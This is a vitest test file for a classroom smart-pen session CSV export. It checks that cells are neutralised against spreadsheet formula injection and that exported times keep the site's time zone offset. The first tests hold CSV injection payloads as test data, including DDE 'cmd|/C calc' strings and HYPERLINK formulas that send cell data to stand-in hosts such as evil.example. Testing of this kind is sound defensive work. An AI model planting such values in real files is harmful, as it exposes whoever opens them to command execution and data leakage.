import { describe, expect, it } from 'vitest';
import type { Reading } from '../core/reading.js';
import { buildSessionExport, csvCell, sessionExportCsv } from './export.js';

const T0 = Date.parse('2026-03-02T08:00:00Z');
const session = (student: string) => ({
  id: 's', owner: 't', room: '1', class: 'c', subject: 's', start: '', end: '', stopped_at: null, status: 'stopped' as const,
  roster: [{ device: 'P-1', student, template: 'smart-pen' }],
});
const pen = (page: string, x: number): Reading => ({ template: 'smart-pen', device: 'rx', ts: T0, fields: { x_mm: x }, tags: { page } });

describe('session export as CSV', () => {
  it('neutralizes every cell text that a spreadsheet would run as a formula (OWASP: = + - @ tab CR)', () => {
    for (const attack of ['=cmd|\' /C calc\'!A0', '+1+1', '-1+HYPERLINK("http://x.example/?"&A1,"x")', "-2+3+cmd|' /C calc'!A0", '@SUM(A1)', '\tx', '\r=1', '＝1+1', '－1+1']) {
      const cell = csvCell(attack);
      // Unquoted, or quoted per RFC 4180: either way the content starts with the apostrophe.
      expect(cell.replace(/^"/, '')).toMatch(/^'/);
    }
    expect(csvCell('-3.5')).toBe("'-3.5");
  });

  it('keeps numbers as numbers and plain text as it is', () => {
    expect(csvCell(-3.5)).toBe('-3.5');
    expect(csvCell(12)).toBe('12');
    expect(csvCell('Alice Wang')).toBe('Alice Wang');
    expect(csvCell('8.12.33.4')).toBe('8.12.33.4');
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
    expect(csvCell(undefined)).toBe('');
  });

  it('writes a student name and a device-supplied pen page from the audit inert', () => {
    const name = '-1+HYPERLINK("http://evil.example","grades")';
    const e = buildSessionExport(session(name), [{ student: name, key: 'P-1', reading: pen("-2+3+cmd|' /C calc'!A0", -3.5) }], T0);
    const [header, row] = sessionExportCsv(e).split('\r\n');
    expect(header).toBe('student,device,template,ts,event,tag_page,x_mm');
    expect(row).toBe(`"'-1+HYPERLINK(""http://evil.example"",""grades"")",P-1,smart-pen,2026-03-02T08:00:00.000+00:00,,'-2+3+cmd|' /C calc'!A0,-3.5`);
  });
});

describe('session export times (issue #19)', () => {
  it('gives every time in the site\'s zone with its offset: a 07:32 lesson in Shanghai is 07:32+08:00, not 23:32Z', async () => {
    const { createSiteZone } = await import('../lib/zone.js');
    const lesson = { ...session('s1'), start: '2026-12-04T23:32:00.000Z', end: '2026-12-05T00:17:00.000Z', stopped_at: '2026-12-05T00:10:00.000Z' };
    const at = Date.parse('2026-12-04T23:40:05.250Z');
    const e = buildSessionExport(lesson, [{ student: 's1', key: 'P-1', reading: { ...pen('1', 2), ts: at } }], at + 60_000, createSiteZone('Asia/Shanghai'));
    expect(e.time_zone).toBe('Asia/Shanghai');
    expect([e.session.start, e.session.end, e.session.stopped_at, e.exported_at]).toEqual(['2026-12-05T07:32:00.000+08:00', '2026-12-05T08:17:00.000+08:00', '2026-12-05T08:10:00.000+08:00', '2026-12-05T07:41:05.250+08:00']);
    expect(e.students[0]!.readings[0]!.ts).toBe('2026-12-05T07:40:05.250+08:00');
    expect(sessionExportCsv(e)).toContain(',2026-12-05T07:40:05.250+08:00,');
    // The same instant: nothing is lost in the conversion.
    expect(Date.parse(e.students[0]!.readings[0]!.ts)).toBe(at);
  });
});
